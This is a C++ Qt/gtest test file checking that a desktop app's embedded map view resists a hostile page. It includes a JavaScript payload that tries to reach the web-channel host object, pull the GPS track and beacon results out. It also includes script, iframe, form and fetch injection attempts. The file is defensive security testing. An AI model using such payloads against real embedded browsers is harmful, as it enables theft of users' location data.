// The real map dialog against outside content served from 127.0.0.1: the view
// stays on the bundled map page whatever the page is made to try (a link
// click, window.location, window.open, an iframe, a form), a clicked link goes
// to the desktop's browser, the page runs no inline or outside script, a page
// from outside never finds the host object, and the page contacts nothing but
// its allow-list.

#include "../settings/version_site.h"
#include "google_map_dlg2.h"
#include "google_map_dlg_wrap.h"
#include "map_web_page.h"
#include "page_security.h"
#include "screenshot_folder.h"
#include "wait_for.h"

#include <QSignalSpy>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineView>

#include <gtest/gtest.h>

#include <vector>

namespace kv::map {
namespace {

using settings::test::VersionSite;

// Runs script in the page and returns its result (null when none came in time).
QVariant Eval(QWebEnginePage* page, const QString& script) {
    QVariant result;
    bool done = false;
    page->runJavaScript(script, [&](const QVariant& value) {
        result = value;
        done = true;
    });
    WaitFor([&] { return done; });
    return result;
}

// A page that, once it is in the map view, tries what a hostile page would:
// find the web channel's transport and ask the host object for the folder's
// GPS track, and load something from another site. It reports to its own site
// once, at the end: "/report?done-<transport or none>-<leak result>", and the
// length of the track when it got one.
QByteArray OutsidePage(const QString& otherSite) {
    return QStringLiteral(R"(<!DOCTYPE html><html><body><script>
function report(what) { new Image().src = '/report?' + what; }
var transport = window.qt && window.qt.webChannelTransport;
if (transport) {
    transport.onmessage = function (message) {
        var reply = JSON.parse(message.data);
        if (reply.id === 0) {
            var methods = reply.data.sample.methods;
            for (var i = 0; i < methods.length; i++) {
                if (methods[i][0] === 'JS2C_GetGPSData') {
                    transport.send(JSON.stringify({type: 6, object: 'sample',
                                                   method: methods[i][1], args: [], id: 1}));
                }
            }
        } else if (reply.id === 1) {
            report('track-' + reply.data.length);
        }
    };
    transport.send(JSON.stringify({type: 3, id: 0}));
}
var leak = new Image();
leak.onload = function () { report('done-' + (transport ? 'transport' : 'none') + '-leaked'); };
leak.onerror = function () { report('done-' + (transport ? 'transport' : 'none') + '-refused'); };
leak.src = '%1/leak.png';
</script></body></html>)")
        .arg(otherSite)
        .toUtf8();
}

class MapNavigation : public ::testing::Test {
protected:
    void SetUp() override {
        outside_.Serve(u"/evil.html", OutsidePage(other_.host()), "text/html");
        GpsSample fix;
        fix.valid = 1;
        fix.latitude = 35.68;
        fix.longitude = 139.76;
        track_.assign(3, fix);
        wrap_.groupTrack = [this] {
            ++trackAsked_;
            return track_;
        };
        wrap_.currentTrack = [this] { return std::optional(track_); };
        wrap_.connection.enabled = 1;
        wrap_.connection.connected = 1;
        wrap_.SetDialog(&dialog_);
    }

    QString EvilUrl(const char* tag) const {
        return outside_.host() + QStringLiteral("/evil.html?") + QString::fromLatin1(tag);
    }

    // Shows the map dialog with page (the bundled map page when empty). The
    // outside site is put on the allow-list, so that only the view's own
    // rules stand between it and the view.
    void Show(const QUrl& page = {}) {
        dialog_.SetHost(&wrap_, ProviderName(MapProvider::Leaflet));
        if (!page.isEmpty()) {
            dialog_.SetPageUrl(page);
        }
        PageAllowList allowed = PageAllowListFor(MapProvider::Leaflet);
        allowed.origins.append(outside_.host());
        dialog_.SetAllowList(allowed);
        dialog_.SetOutsideOpener([this](const QUrl& url) {
            opened_.push_back(url);
            return true;
        });
        dialog_.resize(444, 369);
        dialog_.show();
        ASSERT_TRUE(WaitFor([this] { return dialog_.page() != nullptr; }));
    }

    QWebEnginePage* Page() const { return dialog_.view()->page(); }

    bool Asked(const QString& pathStart) const {
        for (const QString& path : outside_.requested()) {
            if (path.startsWith(pathStart)) {
                return true;
            }
        }
        return false;
    }

    VersionSite outside_;
    VersionSite other_; // never on the allow-list
    std::vector<GpsSample> track_;
    int trackAsked_ = 0;
    std::vector<QUrl> opened_;
    CGoogleMapDlgWrap wrap_{MapSettings{}};
    CGoogleMapDlg2 dialog_;
};

TEST_F(MapNavigation, TheViewStaysOnTheMapWhateverThePageTries) {
    Show();
    ASSERT_TRUE(WaitFor([this] { return wrap_.pageReady; })) << "the map page did not start";
    const QUrl bundled = BundledPageUrl(MapProvider::Leaflet);
    EXPECT_EQ(Page()->url().path(), bundled.path());
    QSignalSpy refused(dialog_.page(), &CMapWebPage::navigationRefused);
    Eval(Page(),
         QStringLiteral("window.__blocked = 0; document.addEventListener("
                        "'securitypolicyviolation', function () { window.__blocked++; }); 1"));

    struct Attempt {
        const char* tag;
        const char* script; // %1: the outside page
        bool opensOutside;  // handed to the desktop's browser
    };
    const std::vector<Attempt> attempts = {
        {"link",
         "var a = document.createElement('a'); a.href = '%1'; a.textContent = 'x';"
         "document.body.appendChild(a); a.click(); 1",
         true},
        {"location", "window.location.href = '%1'; 1", false},
        {"open", "window.__opened = window.open('%1'); 1", false},
        {"iframe",
         "var f = document.createElement('iframe'); f.src = '%1';"
         "document.body.appendChild(f); 1",
         false},
        {"form",
         "var f = document.createElement('form'); f.method = 'get'; f.action = '%1';"
         "document.body.appendChild(f); f.submit(); 1",
         false},
    };
    for (const Attempt& attempt : attempts) {
        SCOPED_TRACE(attempt.tag);
        const QString url = EvilUrl(attempt.tag);
        const qsizetype refusedBefore = refused.size();
        const int blockedBefore = Eval(Page(), QStringLiteral("window.__blocked")).toInt();
        Eval(Page(), QString::fromLatin1(attempt.script).arg(url));
        // Whichever rule stops it says so: the view's navigation hook, the
        // page's content policy, the engine's refusal of windows (null from
        // window.open); or the outside page is asked for, which is the fault.
        ASSERT_TRUE(WaitFor([&] {
            return refused.size() > refusedBefore ||
                   Eval(Page(), QStringLiteral("window.__blocked")).toInt() > blockedBefore ||
                   Eval(Page(), QStringLiteral("window.__opened === null")).toBool() ||
                   Asked(QStringLiteral("/evil.html"));
        }));
        EXPECT_FALSE(Asked(QStringLiteral("/evil.html")))
            << outside_.requested().join(' ').toStdString();
        EXPECT_EQ(Page()->url().path(), bundled.path());
        EXPECT_TRUE(Page()->url().scheme() == QStringLiteral("qrc"));
        if (attempt.opensOutside) {
            ASSERT_FALSE(opened_.empty());
            EXPECT_EQ(opened_.back(), QUrl(url));
        }
        Eval(Page(), QStringLiteral("window.__opened = undefined; 1"));
    }
    // Whatever went to the desktop's browser is a web address.
    for (const QUrl& url : opened_) {
        EXPECT_TRUE(url.scheme() == QStringLiteral("http") ||
                    url.scheme() == QStringLiteral("https"))
            << url.toString().toStdString();
    }
    // The map is still there and still the page the host talks to.
    EXPECT_TRUE(Eval(Page(), QStringLiteral("typeof orbitgrplist === 'object' && g_map !== null"))
                    .toBool());
    EXPECT_TRUE(outside_.requested().isEmpty()) << outside_.requested().join(' ').toStdString();
    EXPECT_TRUE(other_.requested().isEmpty());
}

// The "Leaflet" link of the map's attribution, clicked with the mouse, opens
// in the desktop's browser; the map view stays on the map.
TEST_F(MapNavigation, AClickedAttributionLinkOpensInTheDesktopBrowser) {
    Show();
    ASSERT_TRUE(WaitFor([this] { return wrap_.pageReady; })) << "the map page did not start";
    const QVariantList box =
        Eval(Page(), QStringLiteral("(function () {"
                                    " var a = document.querySelector("
                                    "   '.leaflet-control-attribution a[href*=\"leafletjs\"]');"
                                    " if (!a) return [];"
                                    " var r = a.getBoundingClientRect();"
                                    " return [r.left + r.width / 2, r.top + r.height / 2, a.href];"
                                    "})()"))
            .toList();
    ASSERT_EQ(box.size(), 3) << "no Leaflet link in the attribution";
    const double zoom = dialog_.view()->zoomFactor();
    const QPoint at(static_cast<int>(box[0].toDouble() * zoom),
                    static_cast<int>(box[1].toDouble() * zoom));
    QWidget* surface = dialog_.view()->focusProxy();
    ASSERT_NE(surface, nullptr);
    QTest::mouseClick(surface, Qt::LeftButton, Qt::NoModifier, at);
    ASSERT_TRUE(WaitFor([this] { return !opened_.empty(); }));
    EXPECT_EQ(opened_.front(), QUrl(box[2].toString()));
    EXPECT_EQ(opened_.front().scheme(), QStringLiteral("https"));
    EXPECT_EQ(Page()->url().scheme(), QStringLiteral("qrc"));
    EXPECT_TRUE(Eval(Page(), QStringLiteral("g_map !== null")).toBool());
    QImage shot = dialog_.grab().toImage();
    EXPECT_TRUE(shot.save(ScreenshotFolder() + QStringLiteral("/map_after_link_click.png")));
}

// Even a page from outside that is loaded into the view (here: by naming it as
// the view's page) finds no host object, and what it loads from a site off
// the allow-list never leaves the view.
TEST_F(MapNavigation, APageFromOutsideFindsNoHostObjectAndReachesNoOtherSite) {
    Show(QUrl(EvilUrl("page")));
    ASSERT_TRUE(WaitFor([this] { return Asked(QStringLiteral("/report?done-")); }))
        << outside_.requested().join(' ').toStdString();
    EXPECT_TRUE(Asked(QStringLiteral("/evil.html?page"))); // the page itself was loaded
    EXPECT_TRUE(Asked(QStringLiteral("/report?done-none-refused")))
        << outside_.requested().join(' ').toStdString();
    EXPECT_FALSE(Asked(QStringLiteral("/report?track-")));
    EXPECT_EQ(trackAsked_, 0);
    EXPECT_FALSE(wrap_.pageReady);
    EXPECT_TRUE(other_.requested().isEmpty()) << other_.requested().join(' ').toStdString();
}

// The bundled page's content policy: no inline script runs, no script and no
// request goes to anywhere outside the allow-list.
TEST_F(MapNavigation, TheMapPageRunsNoInlineOrOutsideScript) {
    Show();
    ASSERT_TRUE(WaitFor([this] { return wrap_.pageReady; })) << "the map page did not start";
    Eval(Page(), QStringLiteral("window.__blocked = []; document.addEventListener("
                                "'securitypolicyviolation', function (e) {"
                                " window.__blocked.push(e.effectiveDirective); }); 1"));
    Eval(Page(), QStringLiteral("var s = document.createElement('script');"
                                "s.textContent = 'window.__inline = 1;';"
                                "document.body.appendChild(s); 1"));
    Eval(Page(), QStringLiteral("var o = document.createElement('script'); o.src = '%1';"
                                "document.body.appendChild(o); 1")
                     .arg(EvilUrl("script")));
    Eval(Page(), QStringLiteral("fetch('%1').catch(function () {}); 1").arg(EvilUrl("fetch")));
    ASSERT_TRUE(WaitFor([&] {
        return Eval(Page(), QStringLiteral("window.__blocked.length")).toInt() >= 3 ||
               Asked(QStringLiteral("/evil.html"));
    })) << Eval(Page(), QStringLiteral("window.__blocked.join(' ')")).toString().toStdString();
    EXPECT_FALSE(Eval(Page(), QStringLiteral("window.__inline === 1")).toBool());
    const QStringList blocked = Eval(Page(), QStringLiteral("window.__blocked")).toStringList();
    EXPECT_TRUE(blocked.contains(QStringLiteral("script-src-elem")))
        << blocked.join(' ').toStdString();
    EXPECT_TRUE(blocked.contains(QStringLiteral("connect-src"))) << blocked.join(' ').toStdString();
    EXPECT_TRUE(outside_.requested().isEmpty()) << outside_.requested().join(' ').toStdString();
}

// A page that does not load is a log line: the web engine itself did run.
TEST_F(MapNavigation, APageThatDoesNotLoadIsNoEngineFailure) {
    QSignalSpy failed(&dialog_, &CGoogleMapDlg2::webEngineFailed);
    QSignalSpy loaded(&dialog_, &CGoogleMapDlg2::pageLoaded);
    Show(QUrl(QStringLiteral("qrc:///map/no_such_page.html")));
    ASSERT_TRUE(WaitFor([&] { return !loaded.isEmpty(); }));
    EXPECT_FALSE(loaded.front().front().toBool());
    EXPECT_TRUE(failed.isEmpty());
}

} // namespace
} // namespace kv::map
